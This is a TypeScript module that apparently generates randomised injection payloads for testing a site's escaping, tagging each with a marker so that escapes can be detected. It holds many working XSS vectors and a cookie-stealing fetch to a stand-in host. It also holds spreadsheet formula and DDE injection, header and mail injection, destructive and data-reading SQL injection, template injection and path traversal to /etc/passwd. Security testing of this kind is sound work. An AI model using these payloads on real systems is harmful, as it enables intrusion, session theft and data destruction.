import { oneOf } from '../effort.ts';

/** Payloads that are put together by chance out of what such attacks are made of, the same ones for the same chance. */

type Chance = () => number;

/** In every payload that is markup: an element or an attribute of this name on any surface is one that got out of a text. */
export const mark = 'x7q';

const elsewhere = 'elsewhere.example';

const runs = [
  ...[
    'alert(1)',
    'alert`1`',
    "top['al'+'ert'](1)",
    'confirm(1)',
    'self.print()',
    'prompt`x`',
    'throw onerror=alert,1',
  ],
  ...[`import('//${elsewhere}/x.js')`, `fetch('https://${elsewhere}/?c='+document.cookie)`],
  ...[`location='https://${elsewhere}/'`, `new Image().src='//${elsewhere}/i'`, `open('//${elsewhere}')`],
];

const handlers = [
  ...['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'onstart'],
  ...[
    'onpointerenter',
    'onbeforematch',
    'oncontentvisibilityautostatechange',
    'ONERROR',
    'OnLoad',
    'onscrollend',
  ],
];

const ways = [
  ...[
    '',
    '',
    '">',
    "'>",
    '`>',
    '" ',
    "' ",
    '">\'>',
    '-->',
    '--!>',
    ']]>',
    '?>',
    '%>',
    '}}',
    '*/',
    '\\">',
    '\\u0022>',
  ],
  ...[
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</select>',
    '</option>',
  ],
  ...[
    '</xmp>',
    '</iframe>',
    '</svg>',
    '</math>',
    '</p>',
    '</blockquote>',
    '</a>',
    '</li></ol>',
    '</code></pre>',
  ],
  ...[
    '</form>',
    '</button>',
    '</td></tr></table>',
    '</label>',
    '</legend>',
    '</time>',
    '</section>',
    '</main>',
  ],
  ...[
    '&quot;>',
    '&#34;>',
    '&#x22>',
    '\n\n',
    '\n> ',
    '```\n',
    '`` ` ',
    '</noembed>',
    '</plaintext>',
    '</summary>',
  ],
];

const tags: ((run: string, on: string) => string)[] = [
  (run) => `<script ${mark}>${run}</script>`,
  (run) => `<ScRiPt/${mark}>${run}//</sCrIpT >`,
  () => `<script ${mark} src=//${elsewhere}/x.js></script>`,
  (run, on) => `<img ${mark} src=x ${on}=${run}>`,
  (run, on) => `<img/${mark}/src='x'/${on}="${run}"//`,
  (run) => `<img ${mark} src=x:x onerror\n=\t"${run}"`,
  (run) => `<svg ${mark} onload=${run}>`,
  (run) => `<svg><script ${mark}>${run.replaceAll('(', '&#40;')}</script></svg>`,
  (run) => `<svg ${mark}><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) =>
    `<svg ${mark}><a><animate attributeName=href values="javascript:${run}"/><text x=20 y=20>x</text></a>`,
  (run) =>
    `<svg ${mark}><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#x"/>`,
  (run) => `<svg ${mark}><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject>`,
  (run) =>
    `<math ${mark}><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) =>
    `<math><annotation-xml encoding="text/html" ${mark}><img src=x onerror=${run}></annotation-xml></math>`,
  (run) =>
    `<form ${mark}><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  (run) => `<svg></p><style ${mark}><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<noscript ${mark}><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template ${mark} shadowrootmode=open><img src=x onerror=${run}></template>`,
  (run) => `<title ${mark}></title><img src=x onerror=${run}>`,
  (run) => `<textarea ${mark}></textarea><img src=x onerror=${run}>`,
  (run) => `<xmp ${mark}><p title="</xmp><svg/onload=${run}>">`,
  (run) => `<select ${mark}><option><style></option></select><img src=x onerror=${run}></style>`,
  (run) => `<iframe ${mark} srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  (run) => `<iframe ${mark} src="javascript:${run}"></iframe>`,
  (run) =>
    `<object ${mark} data="data:text/html,<script>${run}</script>"></object><embed src=javascript:${run}>`,
  (run, on) => `<details ${mark} open ${on}=${run}><summary>x`,
  (run) => `<input ${mark} autofocus onfocus=${run}>`,
  (run) => `<video ${mark}><source onerror=${run}></video><audio src=x onerror=${run}>`,
  (run) => `<body ${mark} onload=${run} background=//${elsewhere}/b><frameset onload=${run}>`,
  (run) =>
    `<marquee ${mark} onstart=${run}>x</marquee><div ${mark} style="animation-name:x" onanimationstart=${run}>`,
  (run) =>
    `<form ${mark} action="javascript:${run}"><button formaction="javascript:${run}">x</button></form>`,
  (run) => `<a ${mark} href="javascript:${run}" ping=//${elsewhere}>x</a><area href=javascript:${run}>`,
  () => `<base ${mark} href=//${elsewhere}/><link rel=stylesheet href=//${elsewhere}/s.css>`,
  () => `<meta ${mark} http-equiv=refresh content="0;url=https://${elsewhere}/">`,
  () => `<style ${mark}>@import'//${elsewhere}/s.css';*{background:url(//${elsewhere}/b)}</style>`,
  () => `<reader-poll ${mark} site=demo></reader-poll><slot ${mark}></slot>`,
  (run) => `<isindex ${mark} type=image src=1 onerror=${run}><image src=x onerror=${run}>`,
  (run) => `<!--><img ${mark} src=x onerror=${run}>--><![CDATA[><${mark}>]]>`,
  (run) => `<${mark} id=x tabindex=1 onfocus=${run} style=display:block;content-visibility:auto>#x`,
  (run, on) => `${mark}=1 autofocus tabindex=1 ${on}=${run} x`,
  (run) => `<p ${mark} popover id=y onbeforetoggle=${run}></p><button popovertarget=y>x</button>`,
];

const hexed = (text: string) => [...text].map((one) => `&#x${one.codePointAt(0)?.toString(16)};`).join('');
const wide = (text: string) =>
  text.replace(/[!-~]/g, (one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0));

const encodings: ((text: string) => string)[] = [
  ...Array.from({ length: 8 }, () => (text: string) => text),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#x3E'),
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => encodeURIComponent(encodeURIComponent(text.toWellFormed())),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
  (text) => text.replaceAll('<', '%c0%bc').replaceAll('>', '%c0%be'),
  (text) => text.replaceAll('<', '<<').replaceAll('=', '\u200b='),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll(' ', '\f').replaceAll('=', '\t='),
  (text) => text.toUpperCase(),
  hexed,
  wide,
];

export const markup = (chance: Chance): string =>
  oneOf(
    chance,
    encodings,
  )(oneOf(chance, ways) + oneOf(chance, tags)(oneOf(chance, runs), oneOf(chance, handlers)));

const schemes = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\u0001javascript:', 'java\tscript:', 'java\nscript:'],
  ...[
    'javascript&colon;',
    '&#106avascript:',
    '&#x6a;avascript&#58;',
    'javascript\u003a//%0a',
    'jav&Tab;ascript:',
  ],
  ...[
    'vbscript:',
    'data:text/html,',
    'data:text/html;base64,',
    'view-source:javascript:',
    'blob:null/',
    'feed:javascript:',
  ],
  ...[
    '\\javascript:',
    'javascript:https://x.example/%0a',
    'https:javascript:',
    'http:javascript:',
    'HTTPS:\\\\',
  ],
];
const addresses: ((chance: Chance) => string)[] = [
  (chance) => `${oneOf(chance, schemes)}${oneOf(chance, runs)}`,
  (chance) => `https://${elsewhere}/${markup(chance)}`,
  (chance) => `https://${elsewhere}/?q=${encodeURIComponent(markup(chance).toWellFormed())}`,
  (chance) => `http://${elsewhere}/#"${oneOf(chance, handlers)}=${oneOf(chance, runs)} ${mark}="`,
  (chance) => `https://${elsewhere}/'${mark}='${oneOf(chance, handlers)}='${oneOf(chance, runs)}`,
  () => `//${elsewhere}/x`,
  () => `/\\${elsewhere}`,
  () => `http:${elsewhere}`,
  () => `https:/\\${elsewhere}\\@x`,
  () => `HTTPS://${elsewhere.toUpperCase()}/A"B`,
  () => `https://user:"><${mark}>@${elsewhere}/`,
  () => `https://"><${mark}>.${elsewhere}/`,
  () => `https://xn--80ak6aa92e.example/\u202e${mark}/gpj.exe`,
  () => `https://аррӏе.example/`,
  () => `http://[::1]:1/"><${mark}>`,
  () => `https://${elsewhere}/%0d%0aSet-Cookie:%20${mark}=1`,
  () => `https://${elsewhere}/\r\nSet-Cookie: ${mark}=1`,
  () => `../../desk?next=//${elsewhere}`,
  () => `https://${elsewhere}/${'a'.repeat(150)}"><${mark}>`,
];
export const address = (chance: Chance): string => oneOf(chance, addresses)(chance);

const inMarkdown: ((chance: Chance) => string)[] = [
  (chance) => `[a](${address(chance)})`,
  (chance) => `[a](<${address(chance)}> "${markup(chance)}")`,
  (chance) => `![${markup(chance)}](${address(chance)})`,
  (chance) => `<${address(chance)}>`,
  (chance) => `[a]\n\n[a]: ${address(chance)} '${markup(chance)}'`,
  (chance) => `[${markup(chance)}](https://x.example)`,
  (chance) => `[![a](${address(chance)})](${address(chance)})`,
  (chance) => `\`\`\`${markup(chance)}\n${markup(chance)}\n\`\`\`\n`,
  (chance) => `    ${markup(chance)}\n\n\`${markup(chance)}\``,
  (chance) => `***a**b_c*d__${markup(chance)}__*_`,
  (chance) => `> - 1. ${markup(chance)}\n> ${markup(chance)}`,
  (chance) => `https://x.example/*${markup(chance)}*`,
  (chance) => `${address(chance)} www.${elsewhere} <x@${elsewhere}?"${mark}>`,
  (chance) => `<div>\n\n*a*\n\n</div>\n<!-- ${markup(chance)} -->\n<?${mark} ${markup(chance)} ?>`,
  (chance) => `a\\\n${markup(chance)}  \n\\<${mark}>&lt;${mark}&gt;&#60;${mark}&#62;`,
  (chance) =>
    `# ${markup(chance)}\n---\n|${markup(chance)}|\n|-|\n[^1]: ${markup(chance)}\n~~${markup(chance)}~~`,
  () => `[a](https://x.example/?"${mark}="&quot;${mark}=&#34;)`,
  (chance) => `[a](\\javascript&colon;${oneOf(chance, runs)})[b](java\\script:${oneOf(chance, runs)})`,
];
export const markdown = (chance: Chance): string => oneOf(chance, inMarkdown)(chance);

const others = [
  // Formulas, at the beginning of a cell by a comma, a semicolon, a tab or a line.
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '  @SUM(1)',
    '"=1+1"',
    '\'"=1+1',
    '；=1+1',
  ],
  ...[
    `=HYPERLINK("https://${elsewhere}/?"&A1,"x")`,
    "=cmd|'/C calc'!A0",
    'x;=1+1;y',
    'x\t=1+1\ty',
    'x";=1+1;"y',
    'x;"=1+1"',
  ],
  ...[
    'x\n=1+1',
    'x\r\n+1+1;',
    '＝1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '%0A=1+1',
    '|=1+1',
    'x; =1+1;',
    '−1+1',
  ],
  // Lines of headers and mails.
  ...[
    `x\r\nSet-Cookie: ${mark}=1`,
    `x\nBcc: all@${elsewhere}`,
    `x\r\n\r\n<${mark}>`,
    `x%0d%0a${mark}: 1`,
    `x\u2028${mark}: 1`,
  ],
  ...[
    `x\u0085${mark}: 1`,
    `嘊嘍${mark}: 1`,
    `x\r\n.\r\nMAIL FROM:<a@${elsewhere}>`,
    `=?utf-8?q?x=0D=0ABcc:_a@${elsewhere}?=`,
  ],
  ...[
    `"editor@herald.example" <a@${elsewhere}>`,
    `a@herald.example, b@${elsewhere}`,
    `x (${mark}) <y@${elsewhere}>`,
    '-- \nYour editors',
  ],
  ...[
    `--boundary\r\nContent-Type: text/html\r\n\r\n<${mark}>`,
    `=?utf-8?b?PHg3cT4=?=`,
    'undisclosed-recipients:;',
    `a"@${elsewhere}`,
  ],
  // Lines of logs.
  ...[
    `x\n{"level":"info","msg":"${mark}"}`,
    `"}\n{"${mark}":1}`,
    `\u001b[2J\u001b[31m${mark}\u001b]8;;https://${elsewhere}\u0007`,
    `\\n${mark}`,
  ],
  // SQL.
  ...[
    "' or 1=1 --",
    "'; drop table comments; --",
    "');delete from ballots;--",
    "\\'; select pg_sleep(9); --",
    '$$; drop table polls; $$',
  ],
  ...[
    '$1',
    '\u0024{1}',
    "E'\\x27'",
    "x'||pg_sleep(9)||'",
    'ʼ or 1=1--',
    '’ or 1=1',
    '＇ or 1=1--',
    '%',
    '_',
    '%_%',
    '\\%',
    "U&'\\0027'",
    '/**/or/**/1=1',
  ],
  ...[
    "'::int",
    'null',
    "' union select secret from sites--",
    '"; truncate events;--',
    "a' & 'b | !c:*",
    '{1,2}',
    '(1,2)',
    '\\',
  ],
  // XML.
  ...[
    ']]>',
    ']]]]><![CDATA[>',
    `]]><${mark}/>`,
    `<!DOCTYPE x [<!ENTITY y "${mark}">]>&y;`,
    '&y;',
    '&#0;',
    '&#xFFFE;',
    '\ufffe\uffff',
    '\u{1fffe}',
  ],
  ...[
    '\u0008',
    '\u000b\u001f',
    '\u007f\u0080\u009f',
    '\ud800',
    'x\udc00y',
    '&#xD800;',
    '<?xml version="1.0"?>',
    '<![CDATA[',
    '<!--',
    '--',
    '&',
    '&amp;amp;',
  ],
  ...[`<${mark}:y xmlns:${mark}="x"/>`, `"/><${mark} y="`, `<?${mark} y?>`],
  // JSON in a page, scripts and their templates.
  ...[
    `</script><${mark}>`,
    `<!--<script>${mark}`,
    `</SCRIPT\n><${mark}>`,
    `\\u003c/script>`,
    '"}]}',
    '\u2028alert(1)\u2029',
    '*/alert(1)/*',
    "');alert(1);//",
  ],
  ...[
    '{{7*7}}',
    '{{constructor.constructor("alert(1)")()}}',
    '\u0024{7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{% raw %}',
    '[[7*7]]',
    '\u0024{{<%[%\'"}}%\\',
    '__proto__',
    'constructor',
  ],
  // Directions and look-alikes.
  ...[
    '\u202egnp.exe',
    '\u2066x\u2067y',
    '\u200f\u200e\u061c',
    'x\u0301\u0301\u0301',
    '\ufeff\u2060',
    '\u{e0041}\u{e007f}',
    'Ａｄａ',
    'Аda',
    '\u3164',
    '\u00ad',
  ],
  // Ways through addresses.
  ...[
    '../../etc/passwd',
    '..%2f..%2fdesk',
    '/..;/desk',
    '//elsewhere.example',
    '/\\elsewhere.example',
    '/%2e%2e/desk',
    '?x=1#y',
    '/a?b"c',
    '/%00',
    '/a/../b',
    '/\u202e/x',
  ],
];

export const other = (chance: Chance): string => oneOf(chance, others);

/** Each of those that are not put together. */
export const fixed: readonly string[] = others;

/** One of each kind that no site goes without, whatever chance brings. */
export const always: readonly string[] = [
  `"><img ${mark} src=x onerror=alert(1)>`,
  'javascript:alert(1)',
  '=1+1',
  'x;=1+1;y',
];

const kinds = [address, markup, markdown, other, markup];

/** One of the kind whose turn it is. */
export const payload = (chance: Chance, turn: number): string =>
  (kinds[turn % kinds.length] ?? markup)(chance);
